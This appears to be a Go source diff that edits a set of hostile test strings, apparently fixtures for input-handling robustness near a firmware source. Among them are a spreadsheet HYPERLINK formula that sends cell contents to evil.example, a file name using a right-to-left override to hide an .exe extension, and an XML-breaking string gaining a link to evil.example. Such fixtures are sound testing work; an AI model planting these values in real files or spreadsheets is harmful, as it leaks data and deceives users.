@@ -19,7 +19,7 @@ const (
 	nastyTurn   = "pump\u202efdp.exe\u2066\u200b"
 	nastyBytes  = "/opt/\xff\xfe\x00name\nwith line.bin"
 	nastySheet  = `=HYPERLINK("http://evil.example/"&A1,"open")`
-	nastyXML    = "]]>--><a>&amp;\x0b\uffff"
+	nastyXML    = "]]>--><a>&amp;\x0b\uffff[a](http://evil.example)"
 )
 
 var firmware = fact.Source{Witness: fact.Firmware, Input: "pump.bin"}
